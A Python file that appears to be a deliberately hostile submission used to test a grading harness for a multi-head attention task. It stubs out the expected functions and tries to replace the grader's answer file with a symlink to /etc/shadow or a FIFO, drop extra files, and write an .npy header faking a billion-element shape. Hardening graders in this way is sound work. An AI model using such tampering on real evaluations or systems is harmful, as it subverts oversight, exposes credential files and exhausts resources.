"""Hostile: attacks the answer file. It tries to swap the file the grader reads for a symlink to a
root-only file or a FIFO (a grader that followed the link would read /etc/shadow; one that opened the
FIFO would hang), to drop other files next to it, and it writes an answer whose .npy header lies
about its shape (a grader that trusted it would allocate 8 GB)."""

import glob
import io
import os
import zipfile

import numpy as np

TRIED = []


def _attack():
    for path in glob.glob("/**/out/*.npz", recursive=False) + glob.glob(os.path.expanduser("~/../out/*.npz")):
        for action, fn in (("unlink", lambda: os.unlink(path)), ("symlink", lambda: os.symlink("/etc/shadow", path)),
                           ("fifo", lambda: os.mkfifo(path)),
                           ("extra file", lambda: open(os.path.join(os.path.dirname(path), "extra"), "w"))):
            try:
                fn()
                TRIED.append(f"{action}: done")
            except OSError as e:
                TRIED.append(f"{action}: {e.strerror}")


def _lying_savez(file, **arrays):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**9,)})
    with zipfile.ZipFile(file, "w") as z:
        z.writestr("result.npy", header.getvalue() + b"\0" * 64)


np.savez = _lying_savez


def _answer(*args, **kwargs):
    _attack()
    print("answer file attacks:", sorted(set(TRIED)))
    return np.zeros(3)


add_positional_encoding = project = scores = scale = mask = softmax = attend = concat = output = _answer
multi_head_attention = _answer
